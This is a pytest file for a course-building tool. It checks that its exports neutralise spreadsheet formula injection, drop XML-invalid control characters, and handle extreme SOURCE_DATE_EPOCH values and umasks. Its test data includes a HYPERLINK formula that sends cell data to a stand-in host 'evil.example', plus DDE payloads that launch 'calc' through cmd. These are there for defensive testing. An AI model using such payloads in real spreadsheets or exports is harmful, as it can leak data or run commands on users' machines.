"""What the build writes, audited: hostile texts and odd environments.

- The Coursera blueprint CSV is opened in a spreadsheet: a cell starting with `=`, `+`, `-`,
  `@`, a tab or a carriage return must never become a formula there (the xlsx already keeps
  such a text a text cell).
- Control characters XML 1.0 cannot hold (U+0000–U+0008, U+000B, U+000C, U+000E–U+001F,
  U+FFFE) in any text are dropped by every target (the loader warns, MF029, that they are):
  never a writer crash, never an invalid XML file.
- A `SOURCE_DATE_EPOCH` past what the archive formats can hold (gzip's 32-bit time, zip's
  year 2107) still builds, reproducibly; a warm site build under another SOURCE_DATE_EPOCH
  than the kept one gives a cold build's bytes.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import tarfile
import zipfile
from pathlib import Path

import pytest
import yaml
from conftest import ABC_C
from lxml import etree
from lxml import html as lxml_html

from moocforge import app, cache
from moocforge.app import load as prepare
from moocforge.model import Course
from moocforge.output import pack_tar_gz, pack_zip
from moocforge.writers import WriterOptions
from moocforge.writers.coursera import write as write_coursera
from moocforge.writers.coursera.archive import pack_kit_zip
from moocforge.writers.olx import write as write_olx
from moocforge.writers.site import write as write_site
from moocforge.writers.xmltext import xml_clean

# ------------------------------------------------------------------ blueprint CSV formulas

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
STARTS = {"week": FORMULA, "lesson": "+1+cmd|' /C calc'!A0", "quiz": "-2+3",
          "reading": "@SUM(1+1)*cmd|' /C calc'!A0", "forum": "\t=1+1", "objective": "=1+1"}


def _formula_course(make_course) -> Path:
    week = f"""
        title: {json.dumps({"fr": STARTS["week"], "en": STARTS["week"]})}
        objectives:
          - {{id: start, text: {json.dumps({"fr": STARTS["objective"], "en": "ok"})}}}
        lessons:
          - id: premiers-pas
            title: {json.dumps({"fr": STARTS["lesson"], "en": STARTS["lesson"]})}
            items:
              - reading: intro.md
                title: {json.dumps({"fr": STARTS["reading"], "en": STARTS["reading"]})}
                objectives: [start]
              - discussion: {{fr: Présentez-vous !, en: Introduce yourself!}}
                id: hello-forum
                title: {json.dumps({"fr": STARTS["forum"], "en": STARTS["forum"]})}
              - quiz: quiz-start.yml
                title: {json.dumps({"fr": STARTS["quiz"], "en": STARTS["quiz"]})}
    """
    return make_course({"weeks/01-bienvenue/week.yml": week})


def test_blueprint_csv_cells_never_start_a_formula(make_course, load_ok, tmp_path):
    course = load_ok(_formula_course(make_course))
    found = write_coursera(course, tmp_path / "kit", WriterOptions())
    assert not [d for d in found if d.severity == "error"], [str(d) for d in found]
    raw = (tmp_path / "kit" / "fr" / "blueprint.csv").read_bytes().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(raw)) for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    # Each text is still there, as written after the spreadsheet's text mark.
    for name, text in STARTS.items():
        if name != "objective":  # "start: =1+1" starts with the objective's id
            assert "'" + text in cells, text
    # Numbers stay numbers.
    [header, *rows] = list(csv.reader(io.StringIO(raw)))
    assert {row[header.index("Minutes")].replace(".", "").isdigit() for row in rows} == {True}


def test_blueprint_xlsx_keeps_formula_like_titles_as_text(make_course, load_ok, tmp_path):
    course = load_ok(_formula_course(make_course))
    write_coursera(course, tmp_path / "kit", WriterOptions())
    with zipfile.ZipFile(tmp_path / "kit" / "fr" / "blueprint.xlsx") as workbook:
        sheets = [workbook.read(n) for n in workbook.namelist() if "worksheets/" in n]
    texts = [t.text for sheet in sheets for t in etree.fromstring(sheet).iter(
        "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}t")]
    assert STARTS["quiz"] in texts and FORMULA in texts  # unchanged: a text cell
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)


# ------------------------------------------------------------------ control characters

CONTROLS = "\x00\x01\x08\x0b\x0c\x0e\x1b\x1f\ufffe"
IN_FILES = CONTROLS.replace("\x00", "")  # a NUL makes a file binary (MF003, the loader's)
NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_FILE_KEYS = {"transcripts", "script", "reading", "statement", "file", "files", "audio",
              "description", "cues", "video", "quiz", "peer", "exercise", "codecast"}


def _poisoned(node: object, key: str | None = None) -> object:
    """Every i18n text of a YAML document with control characters in its middle."""
    if isinstance(node, dict):
        if key not in _FILE_KEYS and node and set(node) <= {"fr", "en"} and \
                all(isinstance(v, str) for v in node.values()):
            return {lang: f"{text[:3]}{CONTROLS}{text[3:]}" for lang, text in node.items()}
        return {k: _poisoned(v, k) for k, v in node.items()}
    if isinstance(node, list):
        return [_poisoned(v, key) for v in node]
    return node


def _control_course(root: Path) -> Path:
    """abc-c's first week (video, quizzes, readings, forum, codecast, exercises), with
    control characters in every text, reading, statement and transcript."""
    shutil.copytree(ABC_C, root)
    course = yaml.safe_load((root / "course.yml").read_text("utf-8"))
    course["weeks"] = course["weeks"][:1]
    course.pop("variants", None)
    course["grading"]["types"] = [{"type": "Quiz", "weight": 1.0}]
    for path in [root / "course.yml", *sorted((root / "weeks/01-premiers-pas").rglob("*.yml"))]:
        data = course if path.name == "course.yml" else yaml.safe_load(path.read_text("utf-8"))
        path.write_text(yaml.safe_dump(_poisoned(data), allow_unicode=True, sort_keys=False),
                        "utf-8")
    for path in sorted((root / "weeks/01-premiers-pas").rglob("*.md")):
        text = path.read_text("utf-8")
        path.write_text(text.replace("\n\n", f"\n\nA{IN_FILES}B\n\n", 1), "utf-8")
    for path in sorted((root / "weeks/01-premiers-pas").rglob("*.vtt")):
        text = path.read_text("utf-8")
        path.write_text(re.sub(r"(-->[^\n]*\n)", rf"\1A{IN_FILES}B ", text, count=1), "utf-8")
    return root


@pytest.fixture(scope="module")
def control_course(tmp_path_factory) -> Course:
    loaded = prepare(_control_course(tmp_path_factory.mktemp("controls") / "course"))
    assert loaded.ok and loaded.course is not None, [str(d) for d in loaded.diagnostics]
    assert {d.code for d in loaded.diagnostics if d.severity != "info"} >= {"MF029"}
    return loaded.course


def _outputs(out: Path) -> dict[str, bytes]:
    """Every file written, archives opened: {name: bytes}."""
    found: dict[str, bytes] = {}
    for path in sorted(out.rglob("*")):
        if not path.is_file():
            continue
        if path.name.endswith(".tar.gz"):
            with tarfile.open(path) as tar:
                for member in tar.getmembers():
                    if member.isfile():
                        data = tar.extractfile(member)
                        assert data is not None
                        found[f"{path.name}!{member.name}"] = data.read()
        elif path.suffix in (".zip", ".xlsx"):
            with zipfile.ZipFile(path) as archive:
                found.update({f"{path.name}!{n}": archive.read(n) for n in archive.namelist()})
        found[str(path.relative_to(out))] = path.read_bytes()
    return found


@pytest.mark.parametrize("write", [write_olx, write_coursera, write_site],
                         ids=["olx", "coursera", "site"])
def test_control_characters_are_dropped_by_every_target(control_course, tmp_path, write):
    out = tmp_path / "out"
    found = write(control_course, out, WriterOptions(keep_dir=True))
    assert not [d for d in found if d.severity == "error"], [str(d) for d in found]
    texts = 0
    for name, data in _outputs(out).items():
        if name.endswith((".xml", ".html", ".json", ".csv", ".srt", ".vtt", ".md", ".txt",
                          ".sjson")):  # not .js: vendored libraries hold their own
            text = data.decode("utf-8")
            assert not NOT_XML.search(text), (name, NOT_XML.findall(text))
            texts += 1
            if name.endswith(".xml"):
                etree.fromstring(data)  # well-formed
            elif name.endswith(".html") and data.strip():
                lxml_html.fromstring(data)
    assert texts > 10
    every = b"".join(_outputs(out).values()).decode("utf-8", "replace")
    assert "AB" in every  # the text around the characters stays


def test_a_course_without_control_characters_is_handed_over_as_it_is(make_course, load_ok,
                                                                      control_course):
    course = load_ok(make_course())
    assert xml_clean(course) is course  # identity memos after it keep working
    cleaned = xml_clean(control_course)
    assert cleaned is not control_course and xml_clean(control_course) is cleaned
    assert cleaned.title.get_lang("fr") == "ABC du langage C"
    assert control_course.title.get_lang("fr").startswith(f"ABC{CONTROLS}")
    # Source keys stay as the loader resolved them: the assets accessor reads by them.
    assert cleaned.files == control_course.files and cleaned.assets is control_course.assets


# ------------------------------------------------------------------ SOURCE_DATE_EPOCH range

@pytest.mark.parametrize("epoch", ["7000000000", "99999999999999"])
def test_a_far_future_source_date_epoch_still_packs(monkeypatch, tmp_path, epoch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", epoch)
    files: dict[str, bytes | Path] = {"a.txt": b"a", "b/c.html": b"<p>c</p>"}
    pack_tar_gz(files, tmp_path / "a.tar.gz", prefix="course")
    with tarfile.open(tmp_path / "a.tar.gz") as tar:
        assert {m.mtime for m in tar.getmembers()} == {2 ** 32 - 1}
    for pack in (pack_zip, pack_kit_zip):
        buffer = io.BytesIO()
        pack(files, buffer, "kit")
        with zipfile.ZipFile(buffer) as archive:
            assert {i.date_time[0] for i in archive.infolist()} == {2106}
    again = io.BytesIO()
    pack_kit_zip(files, again, "kit")
    assert again.getvalue() == buffer.getvalue()


def test_a_far_future_source_date_epoch_builds_every_target(monkeypatch, make_course,
                                                            load_ok, tmp_path):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "7000000000")
    course = load_ok(make_course())
    for write, target in ((write_olx, "olx"), (write_coursera, "coursera"),
                          (write_site, "site")):
        found = write(course, tmp_path / target, WriterOptions())
        assert not [d for d in found if d.severity == "error"], [str(d) for d in found]


def _site_files(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes()
            for p in sorted(root.rglob("*")) if p.is_file()}


def test_a_warm_site_build_follows_a_changed_source_date_epoch(make_course, tmp_path,
                                                               monkeypatch):
    """The kept site build is for one SOURCE_DATE_EPOCH: the sitemap's dates (gzip header,
    `lastmod`) follow it, so a warm build under another one gives a cold build's bytes."""
    root = make_course()
    course_yml = root / "course.yml"
    course_yml.write_text(course_yml.read_text("utf-8") +
                          "targets:\n  site: {site_url: https://mooc.example.org/}\n", "utf-8")

    def build(out: Path) -> Path:
        store = cache.Cache(cache.store_folder(out))
        loaded = app.load(root, cache=store)
        assert loaded.ok and loaded.course is not None
        report = app.build(loaded.course, ["site"], out, cache=store)
        assert report.written, report.diagnostics[:3]
        return out / loaded.course.edition / "site"

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    build(tmp_path / "warm")
    monkeypatch.delenv("SOURCE_DATE_EPOCH")
    warm = _site_files(build(tmp_path / "warm"))
    cold = _site_files(build(tmp_path / "cold"))
    assert b"2023-11-14" not in warm["en/sitemap.xml"]
    assert [name for name in cold if warm.get(name) != cold[name]] == []


def test_only_a_course_with_such_characters_is_rebuilt(make_course, load_ok) -> None:
    """A clean model is handed back as it is (its strings are only looked at); one control
    character in one reading's Markdown is enough for the cleaned copy."""
    clean = load_ok(make_course())
    assert xml_clean(clean) is clean
    reading = "weeks/01-bienvenue/intro.md"
    root = make_course(name="dirty")
    text = (root / reading).read_text("utf-8")
    (root / reading).write_text(text.replace("\n\n", "\n\nA\x01B\n\n", 1), "utf-8")
    dirty = load_ok(root)
    cleaned = xml_clean(dirty)
    assert cleaned is not dirty
    [before] = [d.text for d in dirty.documents if d.file == reading]
    [after] = [d.text for d in cleaned.documents if d.file == reading]
    assert "A\x01B" in before and "AB" in after


@pytest.mark.parametrize(("mask", "folder_mode", "file_mode"), [(0o022, 0o755, 0o644),
                                                                (0o077, 0o700, 0o600)])
def test_outputs_get_the_permissions_the_umask_gives(tmp_path: Path, mask: int,
                                                     folder_mode: int, file_mode: int) -> None:
    """A staged output ends with the mode a folder or file made here would have: a user
    whose umask keeps files private gets private outputs (the archives' own modes stay
    fixed: they are part of the reproducible bytes)."""
    from moocforge.output import atomic_dir, atomic_file

    old = os.umask(mask)
    try:
        with atomic_dir(tmp_path / "tree") as staging:
            (staging / "a.txt").write_text("a", "utf-8")
        with atomic_file(tmp_path / "file.txt") as path:
            path.write_text("b", "utf-8")
    finally:
        os.umask(old)
    assert (tmp_path / "tree").stat().st_mode & 0o777 == folder_mode
    assert (tmp_path / "file.txt").stat().st_mode & 0o777 == file_mode
